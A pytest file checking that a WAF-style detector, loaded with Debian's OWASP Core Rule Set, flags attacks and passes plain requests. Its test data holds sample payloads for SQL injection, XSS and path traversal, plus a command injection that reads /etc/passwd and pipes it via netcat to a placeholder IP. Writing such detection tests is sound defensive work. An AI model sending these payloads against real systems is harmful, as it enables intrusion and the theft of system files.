"""The OWASP CRS as Debian packages it: nearly all of it loads, and judges as it is meant to."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from tcpmirror.detect.detector import Detector
from tcpmirror.detect.seclang.engine import Engine, Options
from tcpmirror.detect.seclang.rules import Marker
from tcpmirror.detect.seclang.ruleset import Ruleset, load_ruleset
from tests.detect.conftest import CACHE
from tests.detect.requests import PLACES, request

RULES = Path("/usr/share/modsecurity-crs/rules")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not RULES.is_dir(), reason="Debian's package modsecurity-crs is not installed"),
]


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return load_ruleset(RULES)


@pytest.fixture(scope="module")
def crs(ruleset: Ruleset, detector: Detector) -> Engine:
    judges = {kind: lambda value, kind=kind: detector.shows(kind, value) for kind in ("sqli", "xss")}
    return Engine(ruleset, Options(), judges, CACHE)


def test_at_least_nineteen_of_twenty_request_rules_load(ruleset: Ruleset) -> None:
    refused = [item for item in ruleset.refused if item.phase in (0, 1, 2)]
    assert len(ruleset.rules) > 400
    assert len(ruleset.rules) / (len(ruleset.rules) + len(refused)) >= 0.95
    assert all(item.id and item.line and item.reason for item in refused)


def test_at_the_lowest_level_most_rules_are_left_out_before_any_request(ruleset: Ruleset, crs: Engine) -> None:
    assert len(crs.rules) < len(ruleset.rules) / 2


ATTACKS = {
    "sqli": b"1' UNION SELECT null,password FROM users--",
    "xss": b"<script>alert(1)</script>",
    "ptrav": b"../../../../etc/passwd",
    "rce": b"; cat /etc/passwd | nc 192.0.2.1 4444",
}


@pytest.mark.parametrize("place", ["query", "form", "JSON", "multipart", "XML", "cookie"])
@pytest.mark.parametrize(("kind", "value"), ATTACKS.items(), ids=ATTACKS)
def test_attacks_are_found_where_it_looks(crs: Engine, kind: str, value: bytes, place: str) -> None:
    exchange = PLACES[place](value)
    if place == "form":
        assert exchange.request is not None
        form = b"Content-Type: application/x-www-form-urlencoded\r\n"
        exchange = request(b"POST", b"/save", form, exchange.request.body)
    assert kind in {finding.type for finding in crs.inspect(exchange)}


@pytest.mark.parametrize("target", [b"/", b"/products?id=42&q=running+shoes&page=2", b"/static/app.4f3a2b.js"])
def test_plain_requests_stay_below_the_threshold(crs: Engine, target: bytes) -> None:
    assert crs.inspect(request(b"GET", target)) == []


def test_a_prepared_rule_set_judges_as_the_whole_one(ruleset: Ruleset, crs: Engine) -> None:
    """Rules that are decided before any request may be left out of it, scores and all."""
    upper = ("paranoia-level/2", "paranoia-level/3", "paranoia-level/4")  # their expressions take minutes to compile
    items = [item for item in ruleset.items if isinstance(item, Marker) or not set(item.tags) & set(upper)]
    whole = Engine(replace(ruleset, items=items), Options(), crs._judges, CACHE, prune=False)
    for place in ("query", "JSON", "cookie"):
        for value in (*ATTACKS.values(), b"harmless"):
            verdicts = [judge.evaluate(PLACES[place](value)) for judge in (crs, whole)]
            shown = [[matched.rule.id for matched in verdict.matched if matched.rule.message] for verdict in verdicts]
            assert shown[0] == shown[1]
            assert verdicts[0].tx["anomaly_score"] == verdicts[1].tx["anomaly_score"]
